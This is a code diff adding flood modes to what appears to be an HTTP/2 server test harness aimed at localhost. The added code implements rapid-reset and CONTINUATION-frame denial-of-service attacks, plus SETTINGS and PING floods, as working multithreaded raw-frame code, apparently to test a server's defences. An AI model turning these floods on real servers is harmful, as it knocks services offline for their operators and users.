@@ -123,6 +123,73 @@ def run(port, token, streams, seconds, res, lock):
                 res["lost"] += 1
 
 
+def frame(kind, flags, stream, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + \
+        stream.to_bytes(4, "big") + payload
+
+
+def flood(port, token, kind, seconds, res, lock):
+    """Raw frames, no h2 state machine: the point is to break the rules at speed.
+
+    rapid-reset: HEADERS then RST_STREAM, new stream each time (CVE-2023-44487).
+    continuation: one HEADERS without END_HEADERS, then CONTINUATION frames forever
+    (CVE-2024-27316 family). settings / ping: SETTINGS or PING frames in a loop.
+    Reconnects when the server closes; counts frames sent and connections the server ended."""
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    ctx.set_alpn_protocols(["h2"])
+    enc = h2.connection.H2Connection().encoder
+    block = enc.encode([(":method", "GET"), (":path", "/"), (":scheme", "https"),
+                        (":authority", "localhost"), ("authorization", f"Bearer {token}")])
+    deadline = time.monotonic() + seconds
+    frames = closed = 0
+    while time.monotonic() < deadline:
+        try:
+            s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5),
+                                server_hostname="localhost")
+            s.setblocking(True)
+            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+            sid = 1
+            if kind == "continuation":
+                s.sendall(frame(1, 0, 1, block))  # no END_HEADERS
+            while time.monotonic() < deadline:
+                batch = []
+                for _ in range(50):
+                    if kind == "rapid-reset":
+                        batch.append(frame(1, 0x4 | 0x1, sid, block))
+                        batch.append(frame(3, 0, sid, (8).to_bytes(4, "big")))  # CANCEL
+                        sid += 2
+                    elif kind == "continuation":
+                        batch.append(frame(9, 0, 1, b"x-pad: " + b"a" * 1000))
+                    elif kind == "settings":
+                        batch.append(frame(4, 0, 0, (3).to_bytes(2, "big") + (100).to_bytes(4, "big")))
+                    else:
+                        batch.append(frame(6, 0, 0, b"12345678"))
+                s.sendall(b"".join(batch))
+                frames += len(batch)
+                time.sleep(0.001)
+        except OSError:
+            closed += 1
+            time.sleep(0.01)
+    with lock:
+        res["frames"] += frames
+        res["closed_by_server"] += closed
+
+
+def flood_main(a):
+    res = dict(frames=0, closed_by_server=0)
+    lock = threading.Lock()
+    ts = [threading.Thread(target=flood, args=(a.port, a.token, a.flood, a.seconds, res, lock))
+          for _ in range(a.connections)]
+    for t in ts:
+        t.start()
+    for t in ts:
+        t.join(timeout=a.seconds + 20)
+    with open(a.out, "w") as f:
+        json.dump(res, f)
+
+
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--port", type=int, required=True)
@@ -131,7 +198,10 @@ def main():
     ap.add_argument("--streams", type=int, default=16)
     ap.add_argument("--seconds", type=float, default=5)
     ap.add_argument("--out", required=True)
+    ap.add_argument("--flood", choices=["rapid-reset", "continuation", "settings", "ping"])
     a = ap.parse_args()
+    if a.flood:
+        return flood_main(a)
     res = dict(connections=0, goaways=0, sent=0, lost=0, conn_err=0, **{"2xx": 0, "4xx": 0,
                                                                        "5xx": 0})
     lock = threading.Lock()
